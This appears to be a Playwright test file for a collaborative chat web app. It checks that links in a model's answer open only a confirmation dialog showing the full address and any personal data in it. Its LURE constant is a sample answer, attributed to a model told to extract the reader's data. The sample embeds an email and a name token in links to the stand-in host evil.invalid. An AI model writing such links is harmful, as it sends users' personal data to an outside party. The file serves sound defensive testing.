// A link of an answer may carry what its reader would never send: the page has put values back in place of tokens by the
// time somebody clicks. So nothing is called before the whole address was shown.
import { describe, expect, it } from "vitest";
import { delta, events, finish, say, STREAM_HEAD } from "../support/upstream.ts";
import { MODEL, startParrot } from "./support/parrot.ts";
import type { WebPage } from "./support/web-page.ts";
import { webWorld } from "./support/web-world.ts";

const { provider, environment } = await startParrot();
const world = webWorld(environment);

/** Written by a model that was told to get the reader's data out. */
const LURE =
  "See [the plan](https://evil.invalid/?m=[EMAIL_1]&n=%5BPERSON_1%5D), [again](https://[EMAIL_1]@evil.invalid/), or <https://docs.invalid/a>.";

async function lured(
  prepare: (bob: WebPage) => Promise<void> = async () => undefined,
): Promise<{ readonly ada: WebPage; readonly bob: WebPage }> {
  provider.script(say(STREAM_HEAD, events(delta(LURE), finish("stop"), "[DONE]")));
  const ada = await world.open();
  await ada.start("Ada", () => ada.page.getByLabel(MODEL, { exact: true }).check());
  const bob = await world.open(await ada.invite());
  await prepare(bob);
  await bob.join("Bob");
  await ada.ask("I am Anna Berg, anna@example.org. What is the plan?");
  await ada.button("Regenerate").waitFor();
  await bob.button("Copy answer").waitFor();
  return { ada, bob };
}

describe("[PAGE8] a link of an answer", () => {
  it("calls nobody at a click: it shows where it leads and whose data stand in it", async () => {
    const { ada, bob } = await lured();
    for (const { page, watch } of [ada, bob]) {
      // Neither a click of another button nor a menu of the browser has an address to follow.
      expect(await page.locator(".answer a[href]").count()).toBe(0);
      await page.getByRole("link", { name: "the plan" }).click();
      const dialog = page.getByRole("dialog", { name: "Open this link?" });
      await dialog.getByText("https://evil.invalid/?m=anna@example.org").waitFor();
      const alert = dialog.getByRole("alert");
      await alert.getByText("anna@example.org").waitFor();
      expect(await dialog.getByRole("link", { name: "Open evil.invalid" }).getAttribute("rel")).toBe(
        "noopener noreferrer nofollow",
      );
      await page.keyboard.press("Escape");
      await dialog.waitFor({ state: "detached" });
      expect(page.context().pages()).toHaveLength(1);
      expect(watch.origins()).toEqual([world.origin]);
    }
  });

  it("is reached by the keyboard, and says nothing of personal data where there is none", async () => {
    const { ada } = await lured();
    await ada.page.getByRole("link", { name: "https://docs.invalid/a" }).focus();
    await ada.page.keyboard.press("Enter");
    const dialog = ada.page.getByRole("dialog", { name: "Open this link?" });
    await dialog.getByText("The detector found no personal data in it.").waitFor();
    await dialog.getByRole("link", { name: "Open docs.invalid" }).waitFor();
    expect(await dialog.getByRole("alert").count()).toBe(0);
  });

  it("where the detector cannot be had, says so", async () => {
    const { bob } = await lured(async ({ page, watch }) => {
      watch.foresee(/wasm|Failed to load resource/);
      await page.route("**/*.wasm", (route) => route.abort());
    });
    await bob.page.getByRole("link", { name: "the plan" }).click();
    const dialog = bob.page.getByRole("dialog", { name: "Open this link?" });
    await dialog.getByText("The detector of personal data does not work here.").waitFor();
  });
});
